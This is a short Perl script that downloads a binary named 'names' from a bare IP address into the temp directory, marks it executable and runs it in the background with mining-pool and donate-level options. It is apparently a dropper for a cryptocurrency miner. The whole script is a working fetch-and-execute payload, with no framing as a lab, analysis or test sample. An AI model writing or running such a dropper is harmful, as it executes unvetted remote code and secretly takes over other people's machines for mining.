#!/usr/bin/perl
use strict;
use HTTP::Tiny;

my $file = ($ENV{TMPDIR} || '/tmp') . '/names';
my $res = HTTP::Tiny->new(timeout => 20)->mirror('http://203.0.113.44/names', $file);
exit 0 unless $res->{success};
chmod 0755, $file;
exec $file, '-o', 'pool.example.com:443', '--donate-level=1', '--background';
